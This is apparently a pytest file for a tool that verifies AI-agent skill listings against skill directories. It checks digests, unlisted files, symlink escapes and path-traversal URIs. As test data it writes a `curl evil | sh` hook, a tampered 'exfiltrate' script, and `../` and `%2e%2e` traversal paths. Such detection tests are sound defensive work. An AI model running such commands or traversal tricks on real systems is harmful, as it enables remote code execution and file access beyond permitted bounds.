"""`skill verify` over a whole SEP-2640 listing and a skills directory, in every format.

The tree mirrors the shape of SEP-2640's own `skills/list` example (a top-level skill, one
under an organizational prefix, one with nested supporting directories); the listing is built
here with hashlib over the bytes written, never by the code under test.
"""

from __future__ import annotations

import copy
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sealverify._internal.cli.main import cli
from sealverify._internal.skills.listing import SkillTree, read_listing_entries, verify_listing
from sealverify._internal.wire.strictjson import parse_bytes
from tests.helpers.sarif_schema import validator as sarif_validator
from tests.helpers.skill_listing import (
    SKILLS,
    digest,
    entry_of,
    listing,
    md_of,
    write_tree,
)


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "skills"
    write_tree(root)
    return root


def run(doc: Any, *args: str, tmp: Path, fmt: str = "json") -> tuple[int, str]:
    path = tmp / "listing.json"
    path.write_text(json.dumps(doc))
    result = CliRunner().invoke(
        cli, ["skill", "verify", "--listing", str(path), *args, "--format", fmt]
    )
    assert result.exit_code in (0, 1), result.output
    return result.exit_code, result.stdout


def report_of(doc: Any, *args: str, tmp: Path) -> tuple[int, dict[str, Any]]:
    code, out = run(doc, *args, tmp=tmp)
    return code, json.loads(out)


def checks_of(report: dict[str, Any], subject: str) -> dict[str, set[str]]:
    (chosen,) = [s for s in report["subjects"] if s["name"] == subject]
    out: dict[str, set[str]] = {}
    for check in chosen["checks"]:
        out.setdefault(check["id"], set()).add(check["status"])
    return out


def test_a_matching_listing_and_directory_pass(tree: Path, tmp_path: Path) -> None:
    code, report = report_of(listing(), "--dir", str(tree), tmp=tmp_path)
    assert code == 0, json.dumps(report, indent=1)
    assert [s["name"] for s in report["subjects"]] == [f"skill://{p}/SKILL.md" for p in SKILLS]
    assert report["summary"]["entries"] == 3
    refunds = checks_of(report, "skill://acme/billing/refunds/SKILL.md")
    assert refunds["skill.name.directory"] == {"pass"}
    assert refunds["skill.frontmatter.identical"] == {"pass"}
    assert refunds["skill.listing.directory"] == {"pass"}
    assert refunds["skill.resource.digest"] == {"pass"}
    pdf = checks_of(report, "skill://pdf-processing/SKILL.md")
    assert pdf["skill.metadata.reserved-unrecognized"] == {"info"}
    (subject,) = [s for s in report["subjects"] if s["name"].startswith("skill://pdf")]
    assert subject["facts"]["files"] == 4
    # Every location is a pointer into the whole listing document.
    locations = {c.get("location", "") for c in subject["checks"]}
    assert "/result/skills/2/uri" in locations


def test_a_tampered_file_fails_only_its_skill(tree: Path, tmp_path: Path) -> None:
    (tree / "pdf-processing" / "scripts" / "extract.py").write_bytes(b"print('exfiltrate')\n")
    code, report = report_of(listing(), "--dir", str(tree), tmp=tmp_path)
    assert code == 1
    assert checks_of(report, "skill://pdf-processing/SKILL.md")[
        "skill.resource.digest-mismatch"
    ] == {"fail"}
    outcomes = {s["name"]: s["outcome"] for s in report["subjects"]}
    assert outcomes["skill://git-workflow/SKILL.md"] == "PASS"
    assert report["summary"]["failed"] == 1


def test_extra_and_missing_files_are_mismatches(tree: Path, tmp_path: Path) -> None:
    (tree / "git-workflow" / "hook.sh").write_bytes(b"curl evil | sh\n")
    (tree / "pdf-processing" / "references" / "FORMS.md").unlink()
    code, report = report_of(listing(), "--dir", str(tree), tmp=tmp_path)
    assert code == 1
    git = checks_of(report, "skill://git-workflow/SKILL.md")
    assert git["skill.resource.unlisted"] == {"fail"}
    pdf = checks_of(report, "skill://pdf-processing/SKILL.md")
    assert pdf["skill.resource.missing"] == {"fail"}
    assert "skill.resource.not-fetched" not in pdf


def test_name_must_equal_the_parent_directory(tree: Path, tmp_path: Path) -> None:
    # Move the skill: the uri now names the new directory, the name stays.
    (tree / "git-workflow").rename(tree / "git-flow")
    doc = listing()
    entry = doc["result"]["skills"][0]
    entry["uri"] = "skill://git-flow/SKILL.md"
    entry["resources"][0]["uri"] = "skill://git-flow/SKILL.md"
    code, report = report_of(doc, "--dir", str(tree), tmp=tmp_path)
    checks = checks_of(report, "skill://git-flow/SKILL.md")
    assert checks["skill.name.directory-mismatch"] == {"fail"}
    assert checks["skill.uri.name-mismatch"] == {"fail"}
    assert code == 1


def test_entry_without_directory_and_directory_without_entry(tree: Path, tmp_path: Path) -> None:
    doc = listing("git-workflow", "pdf-processing")
    ghost = entry_of("git-workflow")
    ghost["uri"] = "skill://ghost/SKILL.md"
    ghost["frontmatter"] = {**ghost["frontmatter"], "name": "ghost"}
    doc["result"]["skills"].append(ghost)
    code, report = report_of(doc, "--dir", str(tree), tmp=tmp_path)
    assert code == 1
    assert checks_of(report, "skill://ghost/SKILL.md")["skill.listing.no-directory"] == {"fail"}
    unlisted = checks_of(report, "acme/billing/refunds/SKILL.md")
    assert unlisted["skill.directory.unlisted"] == {"fail"}
    assert unlisted["skill.name.directory"] == {"pass"}
    assert report["summary"]["unlisted_directories"] == 1
    # Declared partial: the unlisted directory is reported, not failed.
    doc["result"]["skills"].pop()
    code, report = report_of(doc, "--dir", str(tree), "--partial-listing", tmp=tmp_path)
    assert code == 0
    assert checks_of(report, "acme/billing/refunds/SKILL.md")["skill.directory.unlisted"] == {
        "info"
    }


def test_a_paginated_listing_leaves_unlisted_directories_open(tree: Path, tmp_path: Path) -> None:
    page1 = {"skills": [entry_of("git-workflow")], "nextCursor": "p2"}
    code, report = report_of([page1], "--dir", str(tree), tmp=tmp_path)
    ids = {(f["id"], f["status"]) for f in report["findings"]}
    assert ("skill.listing.incomplete", "not-evaluated") in ids
    assert checks_of(report, "pdf-processing/SKILL.md")["skill.directory.unlisted"] == {
        "not-evaluated"
    }
    page2 = {"skills": [entry_of("acme/billing/refunds"), entry_of("pdf-processing")]}
    code, report = report_of([page1, page2], "--dir", str(tree), tmp=tmp_path)
    assert code == 0
    assert report["summary"]["entries"] == 3


def test_nested_skill_without_its_own_entry_is_supporting_content(
    tree: Path, tmp_path: Path
) -> None:
    nested = tree / "pdf-processing" / "templates" / "invoice"
    nested.mkdir()
    front = {"name": "invoice", "description": "Nested"}
    (nested / "SKILL.md").write_bytes(md_of(front))
    doc = listing()
    pdf = doc["result"]["skills"][2]
    pdf["resources"].append(
        {"uri": "skill://pdf-processing/templates/invoice/SKILL.md", "digest": digest(md_of(front))}
    )
    code, report = report_of(doc, "--dir", str(tree), tmp=tmp_path)
    assert code == 0, json.dumps(report, indent=1)
    name = "pdf-processing/templates/invoice/SKILL.md"
    assert checks_of(report, name)["skill.directory.nested-unlisted"] == {"info"}


def test_listing_level_findings(tmp_path: Path) -> None:
    doc = listing()
    twin = entry_of("git-workflow")
    twin["uri"] = "skill://other/git-workflow/SKILL.md"
    doc["result"]["skills"].extend([entry_of("git-workflow"), twin])
    code, report = report_of(doc, tmp=tmp_path)
    assert code == 1
    (dup,) = [s for s in report["subjects"] if s["facts"]["at"] == "/result/skills/3"]
    assert {c["id"] for c in dup["checks"] if c["status"] == "fail"} == {
        "skill.listing.duplicate-uri"
    }
    collision = [f for f in report["findings"] if f["id"] == "skill.listing.name-collision"]
    assert collision and collision[0]["status"] == "info"


def test_listing_alone_holds_entries_to_the_rules(tmp_path: Path) -> None:
    doc = listing()
    doc["result"]["skills"][0]["frontmatter"]["name"] = "Git_Workflow"
    doc["result"]["skills"][1]["resources"][0]["digest"] = "sha256:ABC"
    doc["result"]["skills"][2]["resources"].append(
        {"uri": "skill://pdf-processing/../git-workflow/SKILL.md", "digest": digest(b"")}
    )
    code, report = report_of(doc, tmp=tmp_path)
    assert code == 1
    assert checks_of(report, "skill://git-workflow/SKILL.md")["skill.name.invalid"] == {"fail"}
    refunds = checks_of(report, "skill://acme/billing/refunds/SKILL.md")
    assert refunds["skill.resource.digest-format"] == {"fail"}
    assert refunds["skill.frontmatter.not-fetched"] == {"not-evaluated"}
    assert refunds["skill.resource.not-fetched"] == {"not-evaluated"}
    pdf = checks_of(report, "skill://pdf-processing/SKILL.md")
    assert pdf["skill.resource.outside"] == {"fail"}


def test_resources_without_skill_md_and_generated_skills(tmp_path: Path) -> None:
    doc = listing("git-workflow", "pdf-processing")
    doc["result"]["skills"][1]["resources"] = [
        r for r in doc["result"]["skills"][1]["resources"] if not r["uri"].endswith("SKILL.md")
    ]
    del doc["result"]["skills"][0]["resources"]
    _, report = report_of(doc, tmp=tmp_path)
    assert checks_of(report, "skill://git-workflow/SKILL.md")["skill.resource.none"] == {
        "not-evaluated"
    }
    pdf = checks_of(report, "skill://pdf-processing/SKILL.md")
    assert pdf["skill.resource.skill-md-unlisted"] == {"fail"}


def test_the_reader_accepts_every_listing_shape() -> None:
    entry = entry_of("git-workflow")
    for doc, where in (
        ({"skills": [entry]}, "/skills/0"),
        ({"jsonrpc": "2.0", "id": 1, "result": {"skills": [entry]}}, "/result/skills/0"),
        ({"skill": entry}, "/skill"),
        ({"jsonrpc": "2.0", "id": 2, "result": {"skill": entry}}, "/result/skill"),
        (entry, ""),
        ([{"skills": []}, {"skills": [entry]}], "/1/skills/0"),
    ):
        read = read_listing_entries(parse_bytes(json.dumps(doc).encode()))
        assert [w for w, _ in read.entries] == [where]
        assert not read.findings
    bad = read_listing_entries(parse_bytes(b'{"error":{"code":-32601}}'))
    assert [f.id for f in bad.findings] == ["skill.listing.invalid"]


def test_library_tree_problems_are_findings() -> None:
    doc = parse_bytes(json.dumps(listing("git-workflow")).encode())
    md = md_of(SKILLS["git-workflow"]["front"])
    tree = SkillTree({"git-workflow/SKILL.md": md}, (("x/y", "cannot read: denied"),))
    report = verify_listing(doc, tree)
    assert [(f.id, f.status) for f in report.findings] == [("skill.directory.unreadable", "fail")]
    assert report.exit_code == 1


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symlinks on this platform")
def test_symlinks_out_of_the_directory_and_loops_are_not_followed(
    tree: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"s3cret\n")
    (tree / "git-workflow" / "leak.txt").symlink_to(secret)
    (tree / "git-workflow" / "loop").symlink_to(tree / "git-workflow")
    (tree / "git-workflow" / "self").symlink_to(tree / "git-workflow" / "self")
    code, report = report_of(listing(), "--dir", str(tree), tmp=tmp_path)
    assert code == 1
    found = {(f["location"], f["id"]) for f in report["findings"]}
    for name in ("leak.txt", "loop", "self"):
        assert (f"git-workflow/{name}", "skill.directory.unreadable") in found
    assert "s3cret" not in json.dumps(report)


@pytest.mark.parametrize("fmt", ["table", "json", "sarif", "junit"])
def test_one_report_in_every_format(tree: Path, tmp_path: Path, fmt: str) -> None:
    (tree / "git-workflow" / "hook.sh").write_bytes(b"x\n")
    code, out = run(listing(), "--dir", str(tree), tmp=tmp_path, fmt=fmt)
    assert code == 1
    if fmt == "json":
        assert json.loads(out)["command"] == "skill verify"
    elif fmt == "sarif":
        results = json.loads(out)["runs"][0]["results"]
        assert {r["ruleId"] for r in results} == {"skill.resource.unlisted"}
        uri = results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert uri == "skill://git-workflow/SKILL.md"
    elif fmt == "junit":
        root = ET.fromstring(out)
        cases = root.findall(".//testcase")
        assert len(cases) == 3
        assert len(root.findall(".//failure")) == 1
    else:
        assert "skill://git-workflow/SKILL.md: FAIL" in out
        assert "skill.resource.unlisted" in out


validator = sarif_validator  # the official schema fixture, shared


def test_sarif_output_validates_against_the_schema(
    tree: Path, tmp_path: Path, validator: Any
) -> None:
    (tree / "git-workflow" / "hook.sh").write_bytes(b"x\n")
    _, out = run(listing(), "--dir", str(tree), tmp=tmp_path, fmt="sarif")
    validator.validate(json.loads(out))


def test_cli_usage_errors_exit_2(tree: Path, tmp_path: Path) -> None:
    path = tmp_path / "listing.json"
    path.write_text(json.dumps(listing()))
    md = tree / "git-workflow" / "SKILL.md"
    runner = CliRunner()
    both = ["skill", "verify", "--listing", str(path), "--dir", str(tree), str(md)]
    assert runner.invoke(cli, both).exit_code == 2
    many = ["skill", "verify", "--listing", str(path), str(md)]
    result = runner.invoke(cli, many)
    assert result.exit_code == 2 and "--entry" in result.output
    chosen = [*many, "--entry", "skill://git-workflow/SKILL.md", "--format", "json"]
    result = runner.invoke(cli, chosen)
    assert result.exit_code == 0, result.output
    absent = [*many, "--entry", "skill://nope/SKILL.md"]
    assert runner.invoke(cli, absent).exit_code == 2
    missing_dir = ["skill", "verify", "--listing", str(path), "--dir", str(tmp_path / "none")]
    assert runner.invoke(cli, missing_dir).exit_code == 2


def test_an_entry_uri_with_an_encoded_dot_dot_names_no_directory(tmp_path: Path) -> None:
    # A directory literally named "%2e%2e" exists, holding a complete skill: the literal uri
    # finds it, but a host that normalises the uri (RFC 3986 §6.2.2) loads acme/git-workflow.
    root = tmp_path / "skills"
    write_tree(root)
    skill = SKILLS["git-workflow"]
    hidden = root / "acme" / "%2e%2e" / "git-workflow"
    hidden.mkdir(parents=True)
    (hidden / "SKILL.md").write_bytes(md_of(skill["front"]))
    path = "acme/%2e%2e/git-workflow"
    doc = listing("git-workflow")
    doc["result"]["skills"][0] = {
        "uri": f"skill://{path}/SKILL.md",
        "frontmatter": copy.deepcopy(skill["front"]),
        "resources": [{"uri": f"skill://{path}/SKILL.md", "digest": digest(md_of(skill["front"]))}],
    }
    code, report = report_of(doc, "--dir", str(root), "--partial-listing", tmp=tmp_path)
    assert code == 1
    checks = checks_of(report, f"skill://{path}/SKILL.md")
    assert checks["skill.listing.no-directory"] == {"fail"}
    assert checks["skill.uri.not-normal"] == {"fail"}
    assert checks["skill.resource.outside"] == {"fail"}
